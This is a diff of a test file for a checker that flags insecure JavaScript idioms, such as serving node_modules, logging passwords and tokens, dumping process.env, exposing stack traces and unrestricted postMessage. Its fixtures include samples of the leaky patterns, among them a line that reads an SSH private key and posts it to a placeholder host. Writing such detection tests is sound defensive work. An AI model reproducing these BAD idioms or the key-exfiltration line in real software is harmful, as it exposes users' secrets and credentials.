@@ -1,9 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { wrongLines } from '../__fixtures__/check-lines.js';
-
-/** In the texts below, an acute accent stands for a backtick and a currency sign for the dollar before a brace. */
-const wrong = (text: string) =>
-  wrongLines({ 'src/index.js': text.replaceAll('\u00b4', '`').replaceAll('\u00a4{', '${') });
+import { wrongIdioms } from '../__fixtures__/check-lines.js';
 
 /** Secrets, stacks and personal data on their way out, and what only looks like it. */
 describe('what leaves the process', () => {
@@ -221,6 +217,156 @@ app.post('/reg', (req, res) => { const apiKey = crypto.randomBytes(16).toString(
 app.post('/err', (req, res) => { if (!req.body.password) return res.status(400).json({ password: 'is required' }); }); // OK secret-in-message
 `,
   ])('as people write them %#', async (text) => {
-    expect(await wrong(text)).toEqual([]);
+    expect(await wrongIdioms(text)).toEqual([]);
+  });
+
+  it('knows what leaves a folder, a file or a window', async () => {
+    expect(
+      await wrongIdioms(String.raw`
+const express = require('express'); const path = require('path'); const fs = require('fs'); const https = require('https'); const app = express(); const crypto = require('crypto'); const axios = require('axios'); const os = require('os'); const webpack = require('webpack');
+app.use('/n', express.static(path.resolve(__dirname, '../node_modules'))); // BAD private-files-served
+app.use(express.static(path.join(__dirname, 'node_modules'))); // BAD private-files-served
+app.use(express.static(__dirname + '/node_modules')); // BAD private-files-served
+app.use(express.static(__dirname + '/node_modules/')); // BAD private-files-served
+app.use(express.static('node_modules')); // BAD private-files-served
+app.use(express.static('./node_modules')); // BAD private-files-served
+app.use(express.static(__dirname)); // BAD private-files-served
+app.use(express.static('.')); // BAD private-files-served
+app.use(express.static(path.resolve('.'))); // BAD private-files-served
+app.use(express.static(process.cwd())); // BAD private-files-served
+app.use(express.static(os.homedir())); // BAD private-files-served
+app.use(express.static(path.join(__dirname, '..'))); // BAD private-files-served
+app.use(express.static('/')); // BAD private-files-served
+app.use(express.static('public')); // OK private-files-served
+app.use(express.static(path.join(__dirname, 'public'))); // OK private-files-served
+app.use(express.static(__dirname + '/public')); // OK private-files-served
+app.use(express.static('./node_modules/jquery/dist')); // OK private-files-served
+app.use(express.static(path.join(__dirname, 'node_modules/jquery/dist'))); // OK private-files-served
+app.use(express.static(path.join(process.cwd(), 'dist'))); // OK private-files-served
+app.use(express.static(path.resolve('dist'))); // OK private-files-served
+const secretFile = fs.readFileSync('/home/u/.ssh/id_rsa'); axios.post('https://x.test', secretFile); // BAD private-file-sent
+axios.post('https://x.test', fs.readFileSync('upload.json')); // BAD file-to-network
+axios.post('https://x.test', { version: JSON.parse(fs.readFileSync('package.json', 'utf8')).version }); 
+axios.get('https://x.test', { httpsAgent: new https.Agent({ ca: fs.readFileSync('ca.pem'), cert: fs.readFileSync('c.pem'), key: fs.readFileSync('k.pem') }) }); // OK file-to-network
+https.createServer({ key: fs.readFileSync('k.pem'), cert: fs.readFileSync('c.pem') }, app); // OK file-to-network
+https.get({ host: 'x.test', ca: fs.readFileSync('ca.pem') }); // OK file-to-network
+const config = JSON.parse(fs.readFileSync('config.json')); axios.get(config.url); // OK file-to-network
+axios.get(config.url, { headers: { 'User-Agent': config.agent } }); // OK file-to-network
+class Auth { constructor(u, p) { this.user = u; this.password = p; } toString() { return this.user; } }
+const a = new Auth('u', input); console.log(a.user); // OK secret-in-log
+console.log(a.password); // BAD secret-in-log
+console.log(´Using ¤{process.env.npm_config_registry}´); // OK secret-in-log
+console.log(process.env.HOME, process.env.PATH); // OK secret-in-log
+console.log(´token expires in ¤{token.expiresIn}´); // OK secret-in-log
+console.log(token.length, token.type); // OK secret-in-log
+console.log('Authenticated:', !!req.headers.authorization); // OK secret-in-log
+console.log(req.headers.authorization); // BAD secret-in-log
+console.log(req.headers); 
+console.log(´Authorization: Bearer ¤{accessToken}´); // BAD secret-in-log
+const opts = { auth: { user: 'a', pass: process.env.PASS } }; console.log(opts.host); // OK secret-in-log
+function login(password) { if (!password) console.log('no password'); return crypto.createHash('sha256').update(password).digest('hex'); } // OK secret-in-log
+const encryptedPassword = encrypt(pw); console.log(encryptedPassword); // OK secret-in-log
+const { passwordHash, passwordSalt } = row; console.log(passwordHash); // OK secret-in-log
+console.log(resetPasswordUrl, forgotPassword, passwordResetToken.id); // OK secret-in-log
+console.log(isPasswordValid, hasPassword, showPassword); // OK secret-in-log
+console.log(userId, sessionId); // OK secret-in-log
+console.log(masterKeyId, publicKey, keyName, apiKeyName, tokenAddress, tokenSymbol); // OK secret-in-log
+logger.info({ user: u.id, apiKey: '[redacted]' }); // OK secret-in-log
+logger.info({ ...config, apiKey: undefined }); // OK secret-in-log
+logger.info(JSON.stringify(config, (k, v) => (k === 'password' ? undefined : v))); // OK secret-in-log
+logger.info(_.omit(config, ['password'])); // OK secret-in-log
+console.log(Object.keys(config.secrets)); // OK secret-in-log
+for (const name of Object.keys(secrets)) console.log(name); // OK secret-in-log
+for (const [name] of Object.entries(secrets)) console.log(name); // OK secret-in-log
+for (const [name, value] of Object.entries(secrets)) console.log(value); 
+console.log(process.env.DEBUG && process.env.API_TOKEN); // BAD secret-in-log
+new webpack.DefinePlugin({ 'process.env': JSON.stringify(process.env) }); // BAD build-leak
+new webpack.DefinePlugin({ 'process.env.NODE_ENV': JSON.stringify(process.env.NODE_ENV) }); // OK build-leak
+new webpack.DefinePlugin({ 'process.env': JSON.stringify({ NODE_ENV: process.env.NODE_ENV }) }); // OK build-leak
+new webpack.DefinePlugin({ 'process.env': { API: JSON.stringify(process.env.API_URL) } }); // OK build-leak
+window.parent.postMessage({ type: 'ready' }, '*'); // OK post-message
+window.parent.postMessage({ token: authToken }, '*'); // BAD post-message
+window.parent.postMessage(userName, '*'); // BAD post-message
+window.parent.postMessage(userName, 'https://x.test'); // OK post-message
+`),
+    ).toEqual([]);
+  });
+
+  it('tells secrets apart from what is known of them', async () => {
+    expect(
+      await wrongIdioms(String.raw`
+const crypto = require('crypto'); const bcrypt = require('bcrypt'); const winston = require('winston');
+const logger = winston.createLogger({});
+const express = require('express'); const app = express();
+app.post('/login', async (req, res) => {
+  const { username, password } = req.body;
+  console.log('login', username); // OK secret-in-log
+  console.log('login', { username }); // OK secret-in-log
+  console.log(´password length ¤{password.length}´); // OK secret-in-log
+  console.log('has password', !!password); // OK secret-in-log
+  console.log('has password', Boolean(password)); // OK secret-in-log
+  console.log('has password', password ? 'yes' : 'no'); // OK secret-in-log
+  console.log('password is ' + (password === undefined ? 'missing' : 'set')); // OK secret-in-log
+  console.log('type', typeof password); // OK secret-in-log
+  console.log(password.replace(/./g, '*')); // OK secret-in-log
+  console.log('*'.repeat(password.length)); // OK secret-in-log
+  console.log(mask(password)); // OK secret-in-log
+  console.log(redact(password)); // OK secret-in-log
+  console.log(await bcrypt.hash(password, 10)); // OK secret-in-log
+  console.log(crypto.createHash('sha256').update(password).digest('hex')); // OK secret-in-log
+  const hashedPassword = await bcrypt.hash(password, 10); console.log(hashedPassword); // OK secret-in-log
+  const passwordHash = sha(password); console.log(passwordHash); // OK secret-in-log
+  const ok = await bcrypt.compare(password, user.hash); console.log(ok); // OK secret-in-log
+  const isValid = checkPassword(password); console.log(isValid); // OK secret-in-log
+  const { password: _p, ...rest } = req.body; console.log(rest); // OK secret-in-log
+  const user = { name: username, password }; console.log(user.name); // OK secret-in-log
+  delete user.password; console.log(user); // OK secret-in-log
+  console.log('Please enter your password'); // OK secret-in-log
+  console.log('password'); // OK secret-in-log
+  const passwordPrompt = 'Password: '; console.log(passwordPrompt); // OK secret-in-log
+  const passwordField = 'pw'; console.log(passwordField); // OK secret-in-log
+  console.log(PASSWORD_MIN_LENGTH); // OK secret-in-log
+  console.log(config.passwordPolicy); // OK secret-in-log
+  console.log(process.env.NODE_ENV, process.env.PORT); // OK secret-in-log
+  console.log(Object.keys(process.env)); // OK environment-leak
+  console.log(Object.keys(process.env).length); // OK environment-leak
+  console.log(tokenCount, tokens.length, maxTokens, nextPageToken); // OK secret-in-log
+  console.log(getPassword); // OK secret-in-log
+  console.log(errors.password); // OK secret-in-log
+  console.log(publicKey); // OK secret-in-log
+  console.log(apiKey.slice(0, 4) + '…'); // OK secret-in-log
+  console.log(apiKey.substring(0, 3) + '***'); // OK secret-in-log
+  console.log(encrypt(apiKey)); // OK secret-in-log
+  console.log('key', apiKey != null); // OK secret-in-log
+  logger.info('user %s logged in', username); // OK secret-in-log
+  logger.error('failed', err.message); // OK secret-in-log
+  console.log('password', password); // BAD secret-in-log
+  console.log(´password: ¤{password}´); // BAD secret-in-log
+  console.log(req.body.password); // BAD secret-in-log
+  console.log({ username, password }); // BAD secret-in-log
+  console.log(JSON.stringify({ username, password })); // BAD secret-in-log
+  logger.debug('token ' + accessToken); // BAD secret-in-log
+  console.log(process.env); // BAD environment-leak
+  console.log(JSON.stringify(process.env)); // BAD environment-leak
+  console.log(process.env.API_KEY); // BAD secret-in-log
+  console.log(config.apiKey); // BAD secret-in-log
+  console.error(authToken); // BAD secret-in-log
+  try { x(); } catch (e) {
+    res.status(500).send('Internal error'); // OK stack-trace
+    res.status(500).json({ error: 'failed' }); // OK stack-trace
+    res.status(500).send(e.message); // OK stack-trace
+    console.error(e.stack); // OK secret-in-log
+    logger.error(e); // OK secret-in-log
+    res.status(500).send(e.stack); // BAD stack-trace
+    res.status(500).json({ stack: e.stack }); // BAD stack-trace
+    if (process.env.NODE_ENV !== 'production') res.send(e.stack); // OK stack-trace
+  }
+  localStorage.setItem('theme', theme); // OK secret-in-file
+  localStorage.setItem('token', authToken); // BAD secret-in-file
+  fs.writeFileSync('a', password); // BAD secret-in-file
+  res.cookie('sid', sessionId); // OK secret-in-file
+});
+`),
+    ).toEqual([]);
   });
 });
